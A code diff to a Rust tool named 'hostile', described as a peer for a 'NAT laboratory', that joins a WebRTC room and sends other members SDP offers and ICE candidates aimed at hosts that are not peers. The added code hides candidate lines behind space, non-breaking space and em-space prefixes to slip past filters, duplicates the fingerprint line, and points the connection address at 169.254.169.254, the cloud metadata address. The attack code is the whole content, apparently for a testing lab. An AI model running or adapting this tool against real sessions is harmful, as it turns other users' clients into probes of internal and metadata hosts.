@@ -1,7 +1,8 @@
 //! A peer that aims whoever is in a room at hosts that are no peers: `hostile URL ROOM CANDIDATES OWN SOURCES`. It offers,
-//! with candidates in the description and after it, from as many sessions as it takes, each ended by one candidate that is its
-//! own socket at OWN; and it sends authenticated checks from the SOURCES, comma-separated, to make candidates of those. It
-//! knows that everything was handled when its own socket has been checked. For the NAT laboratory.
+//! with candidates in the description, hidden behind white space in another before it, and after it, from as many sessions as
+//! it takes, each ended by one candidate that is its own socket at OWN; and it sends authenticated checks from the SOURCES,
+//! comma-separated, to make candidates of those. It knows that everything was handled when its own socket has been checked.
+//! For the NAT laboratory.
 
 use std::{
     error::Error,
@@ -166,13 +167,17 @@ async fn attack(
         .map(|number| format!("a={}\r\n", hostile(number)))
         .filter(|line| !line.contains('\t'))
         .collect();
+    let digest = ["4A"; 32].join(":");
     let sdp = format!(
         "v=0\r\no=- {number} 1 IN IP4 127.0.0.1\r\ns=-\r\nt=0 0\r\na=group:BUNDLE 0\r\n\
          m=application 9 UDP/DTLS/SCTP webrtc-datachannel\r\nc=IN IP4 169.254.169.254\r\na=mid:0\r\na=setup:actpass\r\n\
          a=sctp-port:5000\r\na=ice-ufrag:{fragment}\r\na=ice-pwd:mallorymallorymallorymallory\r\n\
-         a=fingerprint:sha-256 {}\r\n{described}",
-        ["4A"; 32].join(":")
+         a=fingerprint:sha-256 {digest}\r\na=fingerprint:SHA-256 {digest}\r\n{described}"
     );
+    // The engine would find these where a prefix does not.
+    let space = [" ", "\u{a0}", "\u{2003}"][number % 3];
+    let hidden = sdp.replace("a=candidate:", &format!("a={space}candidate:"));
+    session.ask(Ask::Offer(Offer { to_peer_id: session.victim.clone(), sdp: hidden })).await?;
     session.ask(Ask::Offer(Offer { to_peer_id: session.victim.clone(), sdp })).await?;
     for number in first + half..first + CANDIDATES_PER_SESSION {
         session.candidate(hostile(number)).await?;
